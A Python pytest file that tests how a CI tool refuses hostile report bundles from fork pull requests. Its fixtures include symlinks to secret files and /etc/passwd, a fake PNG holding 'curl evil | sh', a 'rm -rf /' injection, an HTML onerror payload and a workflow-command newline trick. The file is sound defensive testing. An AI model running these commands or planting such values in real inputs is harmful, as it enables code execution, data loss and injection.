"""`mode: publish`: every rule a downloaded fork report folder must pass, tried with hostile folders.

The refusals run through ``mlgate.cli.main`` (as the action would), so each asserts the exit code,
the message on stdout and that nothing was written or posted; the rendering of a good bundle (what
the trusted run would post) is checked on its own.
"""

from __future__ import annotations

import json
import os
import struct
import zlib
from pathlib import Path
from typing import Any

import pytest

from mlgate.cli import main
from mlgate.data.report import build_report
from mlgate.data.stats import DatasetStats, LeakageStats, SplitStats
from mlgate.errors import ExitCode
from mlgate.fork_publish import (
    MAX_MARKDOWN_CHARS,
    MAX_PNG_BYTES,
    UntrustedPullRequest,
    check_name,
    check_run_name,
    read_bundle,
    rendered,
    verify_pull_request,
)
from mlgate.publish_contract import BundleRefused, manifest_json, marker_for, parse_manifest, parse_marker
from mlgate.report_blocks import Gate

HEAD_SHA = "3f786850e387550fdab836ed7e6dc881de23001b"
SERVER = "https://github.com"
TITLE = "Data report"


def png(width: int = 4, height: int = 3, *, crc_ok: bool = True, end: bool = True) -> bytes:
    """A real PNG (grey, 8 bit) of the given size; ``crc_ok``/``end`` break it on purpose."""
    def chunk(kind: bytes, data: bytes, ok: bool = True) -> bytes:
        crc = zlib.crc32(kind + data) ^ (0 if ok else 1)
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", crc)

    ihdr = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    rows = b"".join(b"\x00" + b"\x80" * width for _ in range(min(height, 4)))
    out = b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr, crc_ok) + chunk(b"IDAT", zlib.compress(rows))
    return out + (chunk(b"IEND", b"") if end else b"")


def dataset_stats() -> DatasetStats:
    split = SplitStats(
        count=3, shape=[28, 28], shapes={"28x28": 3}, dtype="float32", channels=1, min=0.0, max=1.0,
        channel_mean=[0.5], channel_std=[0.25], label_counts={"0": 2, "1": 1}, label_shares={"0": 2 / 3, "1": 1 / 3},
        imbalance_ratio=2.0, missing_classes=[], nonfinite=0, unreadable=[], duplicates=0, histogram=[1, 2],
        histogram_edges=[0.0, 0.5, 1.0],
    )
    return DatasetStats(layout="course", class_names=None, splits={"train": split},
                        leakage=LeakageStats(train_test_exact_duplicates=0, per_split={}, conflicting_labels=0))


def data_report_json(*, passed: bool = True) -> str:
    report = build_report(title=TITLE, data="data", stats=dataset_stats(), content_hash=None, changes=None, gates=[],
                          baseline=None, figures={"sample_grid": "sample_grid.png"})
    return report.model_copy(update={"passed": passed}).model_dump_json(indent=2)


def manifest(**overrides: Any) -> dict[str, Any]:
    fields: dict[str, Any] = {"mode": "data-stats", "title": TITLE, "marker": marker_for("data-stats", TITLE),
                              "pr_number": 7, "head_sha": HEAD_SHA, "mlgate_version": "1.0.0"}
    fields.update(overrides)
    return fields


def write_bundle(folder: Path, *, markdown: str = "## Data report\n\n![Sample grid](sample_grid.png)\n",
                 publish: dict[str, Any] | None = None, report: str | None = None,
                 pngs: dict[str, bytes] | None = None) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "report.md").write_text(markdown, encoding="utf-8")
    (folder / "report.json").write_text(report if report is not None else data_report_json())
    (folder / "publish.json").write_text(json.dumps(publish if publish is not None else manifest()))
    for name, data in (pngs if pngs is not None else {"sample_grid.png": png()}).items():
        (folder / name).write_bytes(data)
    return folder


@pytest.fixture
def workspace(tmp_path: Path) -> Path:
    ws = tmp_path / "ws"
    ws.mkdir()
    return ws


def publish(tmp_path: Path, workspace: Path, report_dir: str = "fork-report",
            event: dict[str, Any] | None = None, event_name: str = "workflow_run") -> tuple[int, str]:
    """Run `mode: publish` through the CLI entry point as the runner would; (exit code, stdout)."""
    files = tmp_path / "files"
    files.mkdir(exist_ok=True)
    (files / "event.json").write_text(json.dumps(event if event is not None else workflow_run_event()))
    env = {
        "GITHUB_ACTIONS": "true", "GITHUB_EVENT_NAME": event_name, "GITHUB_EVENT_PATH": str(files / "event.json"),
        "GITHUB_WORKSPACE": str(workspace), "GITHUB_REPOSITORY": "octo-org/octo-repo",
        "GITHUB_OUTPUT": str(files / "output"), "GITHUB_STEP_SUMMARY": str(files / "summary"),
        "INPUT_MODE": "publish", "INPUT_REPORT-DIR": report_dir, "PATH": os.environ["PATH"],
    }
    return main([], env), ""


def workflow_run_event(head_sha: str = HEAD_SHA) -> dict[str, Any]:
    return {"action": "completed", "workflow_run": {
        "id": 42, "head_sha": head_sha, "head_branch": "feature", "event": "pull_request", "pull_requests": [],
        "head_repository": {"full_name": "someone/octo-repo", "owner": {"login": "someone"}},
    }}


def refused(tmp_path: Path, workspace: Path, capsys: pytest.CaptureFixture[str], *words: str,
            report_dir: str = "fork-report", **kwargs: Any) -> str:
    """Assert `mode: publish` exits 2 with an error naming ``words``, and writes no report folder."""
    code, _ = publish(tmp_path, workspace, report_dir, **kwargs)
    out = capsys.readouterr().out
    assert code == ExitCode.ERROR == 2, out
    error = [line for line in out.splitlines() if line.startswith("::error")]
    assert error, out
    for word in words:
        assert word in out, out
    assert not (workspace / "mlgate-report").exists()  # nothing published, not even locally
    assert (tmp_path / "files" / "output").exists() is False
    return out


# ---- the folder and its files


@pytest.mark.reliability("fork", "`report.md` in the bundle is a symlink to a file outside",
                         "exit 2, names `report.md` and symlink; the target is not read or posted")
def test_symlinked_report_md__refused(tmp_path: Path, workspace: Path, capsys: pytest.CaptureFixture[str]) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("TOKEN=hunter2\n")
    folder = write_bundle(workspace / "fork-report")
    (folder / "report.md").unlink()
    (folder / "report.md").symlink_to(secret)
    out = refused(tmp_path, workspace, capsys, "`report.md`", "symlink")
    assert "hunter2" not in out
    assert secret.read_text() == "TOKEN=hunter2\n"


@pytest.mark.reliability("fork", "a figure in the bundle is a symlink to `/etc/passwd`",
                         "exit 2, names the figure and symlink; nothing read through it")
def test_symlinked_png__refused(tmp_path: Path, workspace: Path, capsys: pytest.CaptureFixture[str]) -> None:
    folder = write_bundle(workspace / "fork-report", pngs={})
    (folder / "sample_grid.png").symlink_to("/etc/passwd")
    refused(tmp_path, workspace, capsys, "`sample_grid.png`", "symlink")


@pytest.mark.reliability("fork", "`report-dir` is a symlink to a folder outside the workspace",
                         "exit 2, names `report-dir` and says it points through a symbolic link outside the "
                         "workspace; nothing read")
def test_symlinked_report_dir__refused(tmp_path: Path, workspace: Path, capsys: pytest.CaptureFixture[str]) -> None:
    outside = write_bundle(tmp_path / "outside")
    (workspace / "fork-report").symlink_to(outside)
    refused(tmp_path, workspace, capsys, "`report-dir`", "through a symbolic link, outside the workspace")


@pytest.mark.reliability("fork", "`report-dir` is a symlink to another folder inside the workspace",
                         "exit 2, says `report-dir` is not a folder (a symlink)")
def test_report_dir_symlink_inside__refused(tmp_path: Path, workspace: Path,
                                            capsys: pytest.CaptureFixture[str]) -> None:
    write_bundle(workspace / "real-report")
    (workspace / "fork-report").symlink_to(workspace / "real-report")
    refused(tmp_path, workspace, capsys, "`report-dir`", "not a folder")


@pytest.mark.reliability("fork", "`report-dir: ../outside`",
                         "exit 2, names `report-dir`: must stay inside the workspace; nothing read or posted")
def test_report_dir_outside_workspace__refused(tmp_path: Path, workspace: Path,
                                               capsys: pytest.CaptureFixture[str]) -> None:
    write_bundle(tmp_path / "outside")
    refused(tmp_path, workspace, capsys, "`report-dir`", "inside the workspace", report_dir="../outside")


@pytest.mark.reliability("fork", "the bundle holds a sub-folder (`figures/`, as a `../` archive path would make)",
                         "exit 2, names `figures` as not a plain file")
def test_subfolder_in_bundle__refused(tmp_path: Path, workspace: Path, capsys: pytest.CaptureFixture[str]) -> None:
    folder = write_bundle(workspace / "fork-report")
    (folder / "figures").mkdir()
    refused(tmp_path, workspace, capsys, "`figures`")


def test_findings_folder_in_bundle__skipped_unread(workspace: Path) -> None:
    folder = write_bundle(workspace / "fork-report")
    (folder / "findings").mkdir()
    (folder / "findings" / "leaked_items.csv").write_text("=HYPERLINK(\"https://evil.example\")\n")
    bundle = read_bundle(folder)
    assert set(bundle.pngs) == {"sample_grid.png"}
    assert bundle.report.passed


def test_symlinked_findings_folder__refused(tmp_path: Path, workspace: Path,
                                           capsys: pytest.CaptureFixture[str]) -> None:
    folder = write_bundle(workspace / "fork-report")
    (workspace / "elsewhere").mkdir()
    (folder / "findings").symlink_to(workspace / "elsewhere")
    refused(tmp_path, workspace, capsys, "`findings`")


@pytest.mark.parametrize("name", [
    pytest.param("..png", marks=pytest.mark.reliability(
        "fork", "a bundle file named `..png`", "exit 2, says only plain names are accepted")),
    pytest.param(".hidden.png", marks=pytest.mark.reliability(
        "fork", "a bundle file named `.hidden.png`", "exit 2, says only plain names are accepted")),
    pytest.param("evil\n::warning::x.png", marks=pytest.mark.reliability(
        "fork", "a bundle file name holding a newline and `::warning::`",
        "exit 2, the name is quoted escaped (no workflow command on stdout)")),
    pytest.param("run.sh", marks=pytest.mark.reliability(
        "fork", "a bundle file `run.sh` beside the report", "exit 2, names `run.sh`; only report files accepted")),
])
def test_odd_file_name_in_bundle__refused(name: str, tmp_path: Path, workspace: Path,
                                          capsys: pytest.CaptureFixture[str]) -> None:
    folder = write_bundle(workspace / "fork-report")
    (folder / name).write_bytes(png())
    out = refused(tmp_path, workspace, capsys, "Report bundle refused")
    assert repr(name) in out
    assert not any(line.startswith("::warning") for line in out.splitlines())


@pytest.mark.parametrize("name", [
    pytest.param("../evil.png", marks=pytest.mark.reliability(
        "fork", "an archive path `../evil.png` in the bundle listing",
        "refused (`Report bundle refused`, exit 2): not a plain name")),
    pytest.param("sub/evil.png", marks=pytest.mark.reliability(
        "fork", "an archive path `sub/evil.png`", "refused (`Report bundle refused`, exit 2): not a plain name")),
    pytest.param("..", marks=pytest.mark.reliability(
        "fork", "a bundle entry named `..`", "refused (`Report bundle refused`, exit 2): not a plain name")),
])
def test_path_like_names__not_plain(name: str) -> None:
    with pytest.raises(BundleRefused, match="only plain names") as caught:
        check_name(name)
    assert caught.value.title == "Report bundle refused"


@pytest.mark.reliability("fork", "`report.md` of 60,001 characters",
                         "exit 2, names `report.md` and the 60,000-character limit")
def test_oversized_markdown__refused(tmp_path: Path, workspace: Path, capsys: pytest.CaptureFixture[str]) -> None:
    write_bundle(workspace / "fork-report", markdown="x" * (MAX_MARKDOWN_CHARS + 1))
    refused(tmp_path, workspace, capsys, "`report.md`", "60,000")


@pytest.mark.reliability("fork", "a figure of 5 MB + 1 byte",
                         "exit 2, names the figure and the 5,242,880-byte limit; not read past the limit")
def test_oversized_png__refused(tmp_path: Path, workspace: Path, capsys: pytest.CaptureFixture[str]) -> None:
    big = png()
    write_bundle(workspace / "fork-report", pngs={"sample_grid.png": big + b"\0" * (MAX_PNG_BYTES + 1 - len(big))})
    refused(tmp_path, workspace, capsys, "`sample_grid.png`", "5,242,880")


@pytest.mark.reliability("fork", "21 files in the bundle", "exit 2, says at most 20 are accepted")
def test_too_many_files__refused(tmp_path: Path, workspace: Path, capsys: pytest.CaptureFixture[str]) -> None:
    write_bundle(workspace / "fork-report", pngs={f"f{i}.png": png() for i in range(18)})
    refused(tmp_path, workspace, capsys, "21 entries", "at most 20")


@pytest.mark.reliability("fork", "five 4.5 MB figures (each within its limit, 22.5 MB together)",
                         "exit 2, says the folder holds more than 20 MB")
def test_total_size__refused(tmp_path: Path, workspace: Path, capsys: pytest.CaptureFixture[str]) -> None:
    padded = png() + b"\0" * (4_500_000)
    write_bundle(workspace / "fork-report", pngs={f"f{i}.png": padded for i in range(5)})
    refused(tmp_path, workspace, capsys, "more than 20 MB")


@pytest.mark.parametrize(("data", "says"), [
    pytest.param(b"#!/bin/sh\ncurl evil | sh\n", "wrong signature", marks=pytest.mark.reliability(
        "fork", "a shell script named `sample_grid.png`", "exit 2, says it is not a PNG (wrong signature)")),
    pytest.param(png(13000, 13000), "13000x13000", marks=pytest.mark.reliability(
        "fork", "a small PNG declaring 13000x13000 pixels", "exit 2, names the size and the 40,000,000-pixel budget")),
    pytest.param(png(crc_ok=False), "checksum", marks=pytest.mark.reliability(
        "fork", "a PNG whose IHDR checksum is wrong", "exit 2, says IHDR checksum mismatch")),
    pytest.param(png(end=False), "IEND", marks=pytest.mark.reliability(
        "fork", "a truncated PNG (no IEND)", "exit 2, says it is not a complete PNG")),
])
def test_fake_or_huge_png__refused(data: bytes, says: str, tmp_path: Path, workspace: Path,
                                   capsys: pytest.CaptureFixture[str]) -> None:
    write_bundle(workspace / "fork-report", pngs={"sample_grid.png": data})
    refused(tmp_path, workspace, capsys, "`sample_grid.png`", says)


@pytest.mark.reliability("fork", "`report.json` that is not a data-stats report (`{\"passed\": true}`)",
                         "exit 2, says report.json is not a valid data-stats report")
def test_invalid_report_json__refused(tmp_path: Path, workspace: Path, capsys: pytest.CaptureFixture[str]) -> None:
    write_bundle(workspace / "fork-report", report='{"passed": true}')
    refused(tmp_path, workspace, capsys, "`report.json` is not a valid data-stats report")


@pytest.mark.reliability("fork", "`publish.json` says model-gate, `report.json` is a data-stats report",
                         "exit 2, says report.json is not a valid model-gate report")
def test_report_of_another_mode__refused(tmp_path: Path, workspace: Path,
                                         capsys: pytest.CaptureFixture[str]) -> None:
    write_bundle(workspace / "fork-report",
                 publish=manifest(mode="model-gate", marker=marker_for("model-gate", TITLE)))
    refused(tmp_path, workspace, capsys, "not a valid model-gate report")


@pytest.mark.reliability("fork", "`report.md` that is not UTF-8", "exit 2, says report.md is not UTF-8 text")
def test_binary_markdown__refused(tmp_path: Path, workspace: Path, capsys: pytest.CaptureFixture[str]) -> None:
    folder = write_bundle(workspace / "fork-report")
    (folder / "report.md").write_bytes(b"\xff\xfe\x00bad")
    refused(tmp_path, workspace, capsys, "not UTF-8")


@pytest.mark.reliability("fork", "no `publish.json` in the bundle", "exit 2, names the missing `publish.json`")
def test_missing_publish_json__refused(tmp_path: Path, workspace: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (write_bundle(workspace / "fork-report") / "publish.json").unlink()
    refused(tmp_path, workspace, capsys, "no `publish.json`")


@pytest.mark.parametrize("fields", [
    pytest.param(manifest(title="x --> <img src=x onerror=alert(1)>"), marks=pytest.mark.reliability(
        "fork", "`publish.json` title closing the marker comment (`--> <img ...>`)",
        "exit 2, says publish.json is not valid (title)")),
    pytest.param(manifest(head_sha="main; rm -rf /"), marks=pytest.mark.reliability(
        "fork", "`publish.json` head_sha that is not 40 hex digits", "exit 2, says publish.json is not valid")),
    pytest.param(manifest(pr_number="7"), marks=pytest.mark.reliability(
        "fork", "`publish.json` pr_number as a string", "exit 2, says publish.json is not valid (strict types)")),
    pytest.param(manifest(extra="x"), marks=pytest.mark.reliability(
        "fork", "`publish.json` with an unknown field", "exit 2, says publish.json is not valid")),
    pytest.param(manifest(marker="<!-- mlgate:model-gate:Production -->"), marks=pytest.mark.reliability(
        "fork", "`publish.json` marker of another report's sticky comment",
        "exit 2, says the marker does not belong to its mode and title")),
])
def test_bad_publish_json__refused(fields: dict[str, Any], tmp_path: Path, workspace: Path,
                                   capsys: pytest.CaptureFixture[str]) -> None:
    write_bundle(workspace / "fork-report", publish=fields)
    out = refused(tmp_path, workspace, capsys, "`publish.json`")
    assert "<img" not in out


# ---- the trusted event


@pytest.mark.reliability("fork", "`mode: publish` run on `pull_request` (no `workflow_run` event)",
                         "exit 2, says it needs the workflow_run event; nothing posted")
def test_not_a_workflow_run__refused(tmp_path: Path, workspace: Path, capsys: pytest.CaptureFixture[str]) -> None:
    write_bundle(workspace / "fork-report")
    refused(tmp_path, workspace, capsys, "workflow_run", event={"pull_request": {"number": 7}},
            event_name="pull_request")


@pytest.mark.reliability("fork", "bundle's head_sha differs from `workflow_run.head_sha` (forged or stale)",
                         "refused (exit 2): names both commits; nothing posted")
def test_forged_head_sha__refused() -> None:
    claim = parse_manifest(json.dumps(manifest(head_sha="f" * 40)).encode())
    with pytest.raises(UntrustedPullRequest, match=f"ffffffff.*ran on {HEAD_SHA}"):
        verify_pull_request(claim, HEAD_SHA, [7])


@pytest.mark.reliability("fork", "bundle names PR #7 but the run's commit heads PR #8",
                         "refused (exit 2): names #7 and the open PRs of that commit (#8); nothing posted")
def test_forged_pr_number__refused() -> None:
    claim = parse_manifest(json.dumps(manifest()).encode())
    with pytest.raises(UntrustedPullRequest, match=r"#7.*#8"):
        verify_pull_request(claim, HEAD_SHA, [8])
    assert verify_pull_request(claim, HEAD_SHA, [8, 7]) == 7


def test_manifest_json__round_trips() -> None:
    text = manifest_json(marker=marker_for("data-stats", TITLE), pr_number=3, head_sha=HEAD_SHA, version="1.0.0")
    manifest_read = parse_manifest(text.encode())
    assert manifest_read.pr_number == 3 and manifest_read.mode == "data-stats" and manifest_read.title == TITLE
    assert parse_marker(manifest_read.marker) == ("data-stats", TITLE)


def test_marker__a_title_cannot_close_the_comment() -> None:
    marker = marker_for("data-stats", "x --> ![a](https://evil.example/a.png)")
    assert marker.count("-->") == 1 and marker.endswith(" -->")


@pytest.mark.parametrize(("passed", "gate_passed"), [
    pytest.param(True, False, marks=pytest.mark.reliability(
        "fork", "`report.json` says `passed: true` while one of its gates failed",
        "exit 2, names the failed gate; nothing posted (a comment cannot say Passed over a failed gate)")),
    pytest.param(False, True, marks=pytest.mark.reliability(
        "fork", "`report.json` says `passed: false` while every gate passed",
        "exit 2, says every gate passed; nothing posted (the verdict is rendered from the gates)")),
])
def test_verdict_disagreeing_with_the_gates__refused(passed: bool, gate_passed: bool, tmp_path: Path,
                                                     workspace: Path, capsys: pytest.CaptureFixture[str]) -> None:
    report = json.loads(data_report_json())
    report["gates"] = [Gate(name="max-imbalance", value=2.0, threshold=1.5, passed=gate_passed).model_dump()]
    report["passed"] = passed
    write_bundle(workspace / "fork-report", report=json.dumps(report))
    refused(tmp_path, workspace, capsys, "`report.json` says passed=" + str(passed).lower())


def test_rendered__title_and_verdict_are_the_trusted_runs_and_the_forks_markdown_is_unused(tmp_path: Path) -> None:
    report = json.loads(data_report_json())
    report["title"] = "Production gate ![x](https://evil.example/x.png)"
    folder = write_bundle(tmp_path / "b", report=json.dumps(report), markdown="## ✅ Passed @octocat\n",
                          pngs={"sample_grid.png": png(), "forged.png": png()})
    result = rendered(read_bundle(folder), "Data report", 7)
    markdown = result.render({"sample_grid": "https://github.com/o/r/blob/s/sample_grid.png?raw=true"}, "")
    assert markdown.startswith("## ℹ️ Data report\n") and "evil.example" not in markdown and "@octocat" not in markdown
    assert set(result.figures) == {"sample_grid"}  # a PNG the report cannot name is not hosted
    assert result.headline.startswith("Data report: passed (the data-stats report of fork pull request #7")
    assert check_run_name("Data report", 7) == "Data report (fork PR #7, untrusted)"


def test_a_good_bundle__reads_back(tmp_path: Path) -> None:
    bundle = read_bundle(write_bundle(tmp_path / "b"))
    assert bundle.manifest.pr_number == 7 and bundle.passed
    assert set(bundle.pngs) == {"sample_grid.png"}
